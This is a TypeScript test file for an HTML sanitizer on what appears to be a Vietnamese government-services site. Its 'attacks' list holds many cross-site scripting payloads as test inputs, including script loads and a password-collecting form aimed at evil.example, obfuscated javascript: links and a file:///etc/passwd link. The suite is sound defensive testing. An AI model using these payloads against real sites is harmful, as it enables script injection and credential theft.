import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { makePicture, sha256 } from '../fixtures/snapshot.ts';
import fc from 'fast-check';
import { inspectPage } from '../../publisher/gate/inspect-page.ts';
import { cleanHtml, isPlainMarkup, safeHref } from './gate.ts';

type Element = DefaultTreeAdapterTypes.Element;
type Node = DefaultTreeAdapterTypes.ChildNode;

const isElement = (node: Node): node is Element => 'tagName' in node;
const elementsOf = (nodes: readonly Node[]): Element[] =>
  nodes.filter(isElement).flatMap((element) => [element, ...elementsOf(element.childNodes)]);

/** What a browser builds from the gate's output, as the browser's parser would. */
const elementsIn = (html: string): Element[] => elementsOf(parseFragment(html).childNodes);

const allowedAttributes: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'rel'],
  div: ['class', 'tabindex', 'role', 'aria-label'],
  img: ['src', 'width', 'height', 'alt', 'loading', 'decoding'],
  source: ['type', 'srcset', 'sizes'],
  ol: ['start'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan', 'scope'],
};
const allowedElements = new Set(
  (
    'p br hr h2 h3 h4 ul ol li blockquote pre code figure figcaption picture source img strong em u s sub sup span a ' +
    'div table caption thead tbody tfoot tr th td'
  ).split(' '),
);

function faultsOf(html: string): string[] {
  return elementsIn(html).flatMap((element) => {
    if (!allowedElements.has(element.tagName)) return [`<${element.tagName}>`];
    const allowed = allowedAttributes[element.tagName] ?? ['lang'];
    return element.attrs.flatMap(({ name, value }) => {
      if (!allowed.includes(name)) return [`<${element.tagName} ${name}>`];
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:|\/(?!\/))/i.test(value)) return [`href=${value}`];
      if ((name === 'src' || name === 'srcset') && !value.startsWith('/_a/')) return [`${name}=${value}`];
      return [];
    });
  });
}

const picture = makePicture('anh');
const media = [picture];

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<style>body{background:url(//evil.example)}</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<svg onload="alert(1)"><circle/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<p ONCLICK=alert(1)>x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)" alt="x">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="x">',
  '<img src="https://evil.example/follow.gif" alt="x">',
  '<img src="//evil.example/follow.gif" alt="x">',
  '<img srcset="https://evil.example/x.png 1x" alt="x">',
  `<img src="media:${sha256('khác')}" alt="not of this article">`,
  `<img src="media:${picture.sha256}" alt='"><script>alert(1)</script>'>`,
  `<img src="media:${picture.sha256}" alt="&quot; onload=&quot;alert(1)" onload="alert(1)">`,
  `<img src="media:${picture.sha256}?x=//evil.example" alt="x">`,
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript\u200b:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="https://dichvucong.gov.vn@evil.example/">x</a>',
  '<a href="https://">x</a>',
  '<a href="/x" target="_blank" ping="https://evil.example">x</a>',
  '<a href="/x" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p class="sample-strip" id="noi-dung">x</p>',
  '<div id="noi-dung" class="banner emergency">x</div>',
  '<form action="https://evil.example"><input name="matkhau"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>x',
  '<table background="javascript:alert(1)"><tr><td colspan="9999999">x</td></tr></table>',
  '<td><svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<p lang="x&quot; onclick=&quot;alert(1)">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x-unwrapped onclick=alert(1)>x</x-unwrapped>',
  '<p><![endif]--><o:p onclick=alert(1)></o:p></p>',
  `${'<ul>'.repeat(60)}<img src=x onerror=alert(1)>`,
  '<img src="media:',
  '<a href="https://x.vn/"',
];

describe('cleanHtml', () => {
  it.each(attacks)('lets nothing dangerous through: %s', (attack) => {
    const cleaned = cleanHtml(attack, media);
    expect(faultsOf(cleaned)).toEqual([]);
  });

  it('leaves clean markup clean when it passes twice', () => {
    const once = cleanHtml('<h2>Mục</h2><p>Một <strong>hai</strong> &amp; ba.</p><ul><li>x</li></ul>', []);
    expect(once).toBe('<h2>Mục</h2><p>Một <strong>hai</strong> &amp; ba.</p><ul><li>x</li></ul>');
    expect(cleanHtml(once, [])).toBe(once);
  });

  it('shows a picture of the article as AVIF and WebP with its size', () => {
    const html = cleanHtml(`<p><img alt="Bàn tiếp nhận" src="media:${picture.sha256}"></p>`, media);
    expect(elementsIn(html).map((element) => element.tagName)).toEqual(['p', 'picture', 'source', 'source', 'img']);
    const [, , avif, webp, image] = elementsIn(html).map((element) =>
      Object.fromEntries(element.attrs.map(({ name, value }) => [name, value])),
    );
    expect(avif).toMatchObject({ type: 'image/avif' });
    expect(webp).toMatchObject({ type: 'image/webp' });
    expect(image).toMatchObject({ alt: 'Bàn tiếp nhận', width: '1280', height: '720', loading: 'lazy' });
  });

  it('keeps headings between the second and the fourth level', () => {
    const html = cleanHtml('<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>', []);
    expect(html).toBe('<h2>a</h2><h2>b</h2><h3>c</h3><h4>d</h4><h4>e</h4><h4>f</h4>');
  });

  it('drops the dress of a word processor and keeps its words', () => {
    const pasted =
      '<p class="MsoNormal" style="mso-margin-top-alt:auto"><span style="font-family:.VnTime"><b>Điều 1.</b> Phạm vi</span><o:p></o:p></p><p>&nbsp;</p>';
    expect(cleanHtml(pasted, [])).toBe('<p><strong>Điều 1.</strong> Phạm vi</p>');
  });

  it('drops what stands unseen inside words', () => {
    expect(cleanHtml('<p>thủ\u00ad tục h\u200bành chính</p>', [])).toBe('<p>thủ tục hành chính</p>');
  });

  it('keeps the words of a link that it refuses', () => {
    expect(cleanHtml('<p><a href="javascript:x">Xem</a> thêm</p>', [])).toBe('<p>Xem thêm</p>');
  });

  it.each([
    [
      '<p><span style="x">Một cửa</span>: xem <a href="/thu-tuc/">thủ tục</a> hết.</p>',
      '<p>Một cửa: xem <a href="/thu-tuc/">thủ tục</a> hết.</p>',
    ],
    [
      '<p><a href="javascript:x">Xem</a> <span lang="en">Public</span> thêm</p>',
      '<p>Xem <span lang="en">Public</span> thêm</p>',
    ],
    [
      '<p><a href="#muc-2">Mục 2</a>, <a href="mailto:a@b@c">thư</a>, <a href="/gioi-thieu/">giới thiệu</a></p>',
      '<p>Mục 2, thư, <a href="/gioi-thieu/">giới thiệu</a></p>',
    ],
    ['<p><span>a <span>b</span> c</span> <strong>d</strong></p>', '<p>a b c <strong>d</strong></p>'],
    ['<p><x-unwrapped>a</x-unwrapped> <em>b</em></p>', '<p>a <em>b</em></p>'],
  ])('takes an element away and closes what comes after it: %s', (html, expected) => {
    expect(cleanHtml(html, [])).toBe(expected);
  });

  it('closes every element, whatever was taken away before it', () => {
    const part = fc.constantFrom(
      ...['<span>a</span>', '<span lang="en">b</span>', '<a href="javascript:x">c</a>', '<a href="/x/">d</a>'],
      ...['<p><span>e</span></p>', '<table><tr><td><span>f</span></td></tr></table>', '<b>g</b>', '<h1>h</h1>', 'i'],
      ...['<ul><li><a>k</a></li></ul>', '<font>l</font>', '<blockquote><span>m</span></blockquote>'],
    );
    const nested = fc.array(part, { maxLength: 8 }).map((parts) => parts.join(' '));
    fc.assert(
      fc.property(nested, nested, (before, inside) => {
        const html = cleanHtml(`${before}<div><span>${inside}</span></div><p>Hết</p>`, []);
        const page = `<!doctype html><html lang="vi"><head><title>x</title></head><body><h1>x</h1>${html}</body></html>`;
        const { problems } = inspectPage({
          path: '/x/',
          html: page,
          siteUrl: 'https://x.vn',
          now: '2026-01-01T00:00:00Z',
        });
        expect(problems.filter(({ rule }) => rule === 'markup')).toEqual([]);
      }),
      { seed: 20_261_127, numRuns: 300 },
    );
  });

  it('marks links that leave the site and leaves its own alone', () => {
    expect(cleanHtml('<p><a href="https://moh.gov.vn/a?b=1&amp;c=2" target="_blank">Bộ Y tế</a></p>', [])).toBe(
      '<p><a href="https://moh.gov.vn/a?b=1&amp;c=2" rel="noopener">Bộ Y tế</a></p>',
    );
    expect(cleanHtml('<p><a href="/thu-tuc/">Thủ tục</a></p>', [])).toBe('<p><a href="/thu-tuc/">Thủ tục</a></p>');
  });

  it('keeps the language of a passage and no other attribute of it', () => {
    expect(cleanHtml('<p><span lang="en" class="x">Public service</span></p>', [])).toBe(
      '<p><span lang="en">Public service</span></p>',
    );
  });

  it('frames a table so that it can be scrolled by keyboard', () => {
    expect(cleanHtml('<table><tr><th scope="col" width="9">A</th></tr><tr><td>1</td></tr></table>', [])).toMatch(
      /^<div class="table-wrap" tabindex="0" [^>]*><table><tr><th scope="col">A<\/th>/,
    );
  });

  it('composes letters and marks that came apart', () => {
    expect(cleanHtml('<p>Tiê\u0301ng Viê\u0323t</p>', [])).toBe('<p>Tiếng Việt</p>');
  });

  it('does not take text for markup', () => {
    expect(cleanHtml(`<p>&lt;img src="media:${picture.sha256}" alt="x" /&gt; &lt;table&gt;</p>`, media)).toBe(
      `<p>&lt;img src="media:${picture.sha256}" alt="x" /&gt; &lt;table&gt;</p>`,
    );
  });
});

describe('safeHref', () => {
  it.each([
    ['https://dichvucong.gov.vn/p/home', 'https://dichvucong.gov.vn/p/home'],
    [' http://moh.gov.vn ', 'http://moh.gov.vn'],
    ['mailto:lienhe@example.vn', 'mailto:lienhe@example.vn'],
    ['tel:19009095', 'tel:19009095'],
    ['tel:+84-258-3822660', 'tel:02583822660'],
    ['tel:0000', null],
    ['/thu-tuc/1.014076/', '/thu-tuc/1.014076/'],
    ['thu-tuc/', null],
    ['#muc-1', null],
    ['//evil.example', null],
    ['https://a b.vn', null],
    ['ftp://x.vn/', null],
    ['', null],
    [undefined, null],
  ])('%s -> %s', (raw, href) => {
    expect(safeHref(raw)).toBe(href);
  });
});

describe('the short way for plain markup', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      '<p>',
      '</p>',
      '<h2>',
      '</h2>',
      '<ul>',
      '<li>',
      '</li>',
      '</ul>',
      '<ol>',
      '</ol>',
      ' ',
      '\u00a0',
      '\n',
    ),
    fc.constantFrom(
      '<h5>',
      '<b>',
      '<p lang="vi">',
      '&amp;',
      '&',
      '<',
      '>',
      '"',
      "'",
      '\u0000',
      '\ufeff',
      '\r\n',
      'ơ\u0300',
    ),
    fc.string({ unit: 'grapheme', maxLength: 4 }),
  );
  const block = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 6 }).map((text) => `<p>${text}</p>`),
    fc
      .array(fc.string({ maxLength: 4 }), { maxLength: 3 })
      .map((texts) => `<ul>${texts.map((text) => `<li>${text}</li>`).join('')}</ul>`),
  );
  const markup = fc.array(fc.oneof(block, piece), { maxLength: 6 }).map((parts) => parts.join(''));

  // A comment is dropped by the gate and is no plain markup: it sends the same text the long way.
  it('gives what the long way gives', () => {
    fc.assert(
      fc.property(markup, (html) => {
        fc.pre(isPlainMarkup(html.normalize('NFC')));
        expect(cleanHtml(html, [])).toBe(cleanHtml(`${html}<!-- -->`, []));
      }),
      { numRuns: 2000 },
    );
  });

  it.each(['<p>Một</p><h2>Hai</h2><ul><li>Ba</li><li>Bốn</li></ul>', '<ol><li>"Một"</li></ol>'])('takes %s', (html) => {
    expect(isPlainMarkup(html)).toBe(true);
  });

  it.each([
    '<p> </p>',
    '<p>a</p> ',
    '<p>a<br>b</p>',
    '<p class="x">a</p>',
    '<p>a & b</p>',
    '<ul></ul>',
    '<p>a',
    '<li>a</li>',
  ])('leaves %s to the gate', (html) => {
    expect(isPlainMarkup(html)).toBe(false);
  });
});
